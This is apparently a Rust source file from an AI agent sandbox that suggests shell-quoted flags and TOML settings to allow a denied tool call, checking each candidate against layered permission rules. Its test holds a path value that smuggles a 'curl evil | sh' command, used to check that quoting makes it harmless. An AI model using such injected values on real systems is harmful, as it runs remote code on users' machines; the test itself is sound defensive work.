//! Suggests rules that would allow a denied call. Each is evaluated before it is suggested.

use plimsoll_config::shell_quoted;
use plimsoll_sandbox::{Action, EffectiveRules, Origin, PermissionRequest, PermissionRule, Permissions};
use serde_json::Value;

use crate::agent::Profile;

/// Place of a new setting. A change of a project's file takes effect once the user trusts it.
pub(crate) const IN_PROJECT_FILE: &str = "in plimsoll.toml, then `plimsoll trust`,";

/// Changes that would allow a denied call.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct AllowHint {
    /// A flag.
    pub(crate) flag: Option<String>,
    /// A line of `plimsoll.toml`.
    pub(crate) setting: Option<String>,
    /// Source of the line that it replaces, if a file cannot contain both.
    pub(crate) replaces: Option<Origin>,
    /// Further line of `plimsoll.toml` that the tool needs.
    pub(crate) also: Option<String>,
    /// The rule that decided, with its source.
    pub(crate) rule: Option<String>,
}

/// Position at which a rule is evaluated.
#[derive(Clone, Copy)]
enum Layer {
    /// After the rules for all agents.
    General,
    /// After the agent's own rules.
    Agent,
}

impl AllowHint {
    /// Finds what would allow a call: each candidate is evaluated at its position, and suggested only if the call would
    /// be made.
    pub(crate) fn find(
        profile: &Profile,
        granted: &Permissions,
        denied: PermissionRequest<'_>,
        also: Option<String>,
    ) -> AllowHint {
        let rule = profile.rules(granted).deciding_rule(denied).map(|rule| {
            let PermissionRule { tool, pattern, action, origin, .. } = rule;
            format!("`{tool}` on `{pattern}` is `{}` ({origin})", action.name())
        });
        let allows = |candidate: &PermissionRule, layer: Layer| {
            let own = with_rule(&profile.permissions, profile.general_rules, candidate, layer);
            let above: Vec<Permissions> = profile
                .bounds
                .iter()
                .map(|bound| match bound.is_fixed {
                    true => bound.permissions.clone(),
                    false => with_rule(&bound.permissions, bound.general_rules, candidate, layer),
                })
                .collect();
            let rules = EffectiveRules::new(&own).within(&above).closing(&profile.closed).granting(granted);
            rules.decide(denied) == Action::Allow
        };
        // A path that `read` may not access is denied to these tools too, so a rule for one of them would have no
        // effect.
        let candidates = || {
            let shows_files = matches!(denied.tool, "grep" | "list" | "glob");
            let reading = shows_files.then(|| PermissionRule::suggested_for(denied.with_tool("read")));
            std::iter::once(PermissionRule::suggested_for(denied)).chain(reading)
        };
        let flag = candidates().find(|rule| allows(rule, Layer::Agent)).map(|rule| flag_for(&rule));
        let general = candidates().find(|rule| allows(rule, Layer::General));
        let of_agent = || candidates().find(|rule| allows(rule, Layer::Agent));
        let rules = &profile.permissions.rules;
        let (all, own) = rules.split_at(profile.general_rules.min(rules.len()));
        let found = match general {
            Some(rule) => Some(("permissions".to_owned(), rule, all, 0)),
            // Only the agent's own rules follow all others.
            None => of_agent()
                .filter(|_| profile.bounds.is_empty())
                .map(|rule| (format!("agents.{}.permission", key(&profile.name)), rule, own, all.len())),
        };
        let Some((table, candidate, there, start)) = found else {
            return AllowHint { flag, also, rule, ..AllowHint::default() };
        };
        // A replaced rule may have a lower priority than one after all others, if it is in a file of lower priority.
        let beside = setting_beside(&table, &candidate, there).filter(|(_, _, at)| {
            let mut permissions = profile.permissions.clone();
            permissions.rules.insert(start + at + 1, candidate.clone());
            let rules = EffectiveRules::new(&permissions).closing(&profile.closed).granting(granted);
            profile.bounds.is_empty() && rules.decide(denied) == Action::Allow
        });
        let (setting, replaces) = match beside {
            Some((setting, replaces, _)) => (setting, Some(replaces)),
            None => (setting_for(&table, &candidate), None),
        };
        AllowHint { flag, setting: Some(setting), replaces, also, rule }
    }

    /// Returns the place of the setting.
    fn place(&self) -> String {
        match &self.replaces {
            // The user's own file has another name and needs no trust.
            Some(origin @ Origin::File { path, .. }) if path.ends_with("plimsoll.toml") => {
                format!("replacing the value in {origin}, then `plimsoll trust`,")
            }
            Some(origin) => format!("replacing the value in {origin}"),
            None => IN_PROJECT_FILE.to_owned(),
        }
    }

    /// Formats the hint for the user, as a clause.
    pub(crate) fn clause(&self) -> String {
        let also = self.also.as_ref().map(|also| format!(", together with `{also}`")).unwrap_or_default();
        let place = self.place();
        match (&self.flag, &self.setting, &self.rule) {
            (Some(flag), Some(setting), _) if also.is_empty() => {
                format!("`{flag}` allows it, or `{setting}` {}", place.trim_end_matches(','))
            }
            (Some(flag), Some(setting), _) => {
                format!("`{flag}` or `{setting}` allows it{also} {}", place.trim_end_matches(','))
            }
            (Some(flag), None, _) if also.is_empty() => format!("`{flag}` allows it"),
            (Some(flag), None, _) => format!("`{flag}` allows it{also} {}", place.trim_end_matches(',')),
            (None, Some(setting), _) => format!("`{setting}`{also} {place} allows it"),
            (None, None, Some(rule)) => format!("decided by a rule that no other rule can override: {rule}"),
            (None, None, None) => "no rule would allow it".to_owned(),
        }
    }
}

fn with_rule(rules: &Permissions, general: usize, candidate: &PermissionRule, layer: Layer) -> Permissions {
    let mut rules = rules.clone();
    let place = match layer {
        Layer::General => general.min(rules.rules.len()),
        Layer::Agent => rules.rules.len(),
    };
    rules.rules.insert(place, candidate.clone());
    rules
}

/// Returns the flag of a rule, quoted for a shell: the path or command comes from a model.
fn flag_for(rule: &PermissionRule) -> String {
    match rule.pattern.as_str() {
        "*" => format!("--allow {}", rule.tool),
        pattern => format!("--allow {}", shell_quoted(&format!("{}:{pattern}", rule.tool))),
    }
}

fn setting_for(table: &str, rule: &PermissionRule) -> String {
    let tool = key(&rule.tool);
    match rule.pattern.as_str() {
        "*" => format!("{table}.{tool} = \"allow\""),
        pattern => format!("{table}.{tool}.{} = \"allow\"", quoted(pattern)),
    }
}

/// Returns a setting that replaces an existing one, with the existing one's source and its index among the rules. TOML
/// allows neither a duplicate key nor a pattern for a tool that has one action for everything: `write = "allow"` has to
/// become a table first.
fn setting_beside(
    table: &str,
    rule: &PermissionRule,
    there: &[PermissionRule],
) -> Option<(String, Origin, usize)> {
    let file = |rule: &PermissionRule| match &rule.origin {
        Origin::File { path, .. } if path.extension().is_some_and(|kind| kind == "toml") => {
            Some(path.clone())
        }
        _ => None,
    };
    let at = there.iter().rposition(|old| {
        let is_same = old.tool == rule.tool && old.pattern == rule.pattern;
        let is_word = old.pattern == "*" && (old.tool == rule.tool || old.tool == "*");
        file(old).is_some() && (is_same || is_word)
    })?;
    let old = &there[at];
    let found = |setting: String| Some((setting, old.origin.clone(), at));
    if old.tool == rule.tool && old.pattern == rule.pattern {
        return found(setting_for(table, rule));
    }
    // With several rules it is already a table, which can be extended.
    let mut of_file = there.iter().filter(|other| file(other) == file(old));
    let (tool, word) = (key(&rule.tool), old.action.name());
    let allow = match rule.pattern.as_str() {
        "*" => "\"allow\"".to_owned(),
        pattern => format!("{{ {} = \"allow\" }}", quoted(pattern)),
    };
    if old.tool != rule.tool {
        return match of_file.count() {
            1 => found(format!("{table} = {{ \"*\" = \"{word}\", {tool} = {allow} }}")),
            _ => None,
        };
    }
    match of_file.all(|other| other.tool != rule.tool || other == old) {
        true => {
            let pattern = quoted(&rule.pattern);
            found(format!("{table}.{tool} = {{ \"*\" = \"{word}\", {pattern} = \"allow\" }}"))
        }
        false => None,
    }
}

fn quoted(text: &str) -> String {
    Value::String(text.to_owned()).to_string()
}

/// Returns a TOML key, quoted if necessary.
fn key(name: &str) -> String {
    let is_bare = !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || "_-".contains(c));
    if is_bare { name.to_owned() } else { quoted(name) }
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use plimsoll_sandbox::{Access, PermissionRequest, PermissionRule, Subject};

    use super::{flag_for, setting_for};

    #[test]
    fn the_flag_that_is_suggested_can_be_pasted() {
        let path = |path: &str| Subject::Path { named: path.into(), real: path.into() };
        let command = |line: &str| Subject::Command(line.into());
        let rule = |tool, subject: &Subject| {
            let request = PermissionRequest::new(tool, Access::Act, subject, Path::new("/project"));
            PermissionRule::suggested_for(request)
        };
        let evil = path("/tmp/a'; curl evil | sh; '/b");
        assert_eq!(flag_for(&rule("read", &evil)), "--allow \"read:/tmp/a'; curl evil | sh; '/b\"");
        let cargo = rule("bash", &command("cargo test -q"));
        assert_eq!(flag_for(&cargo), "--allow 'bash:cargo test *'");
        assert_eq!(setting_for("permissions", &cargo), "permissions.bash.\"cargo test *\" = \"allow\"");
        assert_eq!(flag_for(&rule("bash", &command("a; b"))), "--allow 'bash:a; b'");
        // `git log *` would also allow `git log --output=.git/config`, and `plimsoll run` does not ask again.
        assert_eq!(flag_for(&rule("bash", &command("git log -3"))), "--allow 'bash:git log -3'");
        assert_eq!(flag_for(&rule("write", &path("/project/src/a.rs"))), "--allow write:src/a.rs");
        let page = Subject::Address("https://example.org/a?b=c".into());
        assert_eq!(flag_for(&rule("webfetch", &page)), "--allow 'webfetch:https://example.org/*'");
    }
}
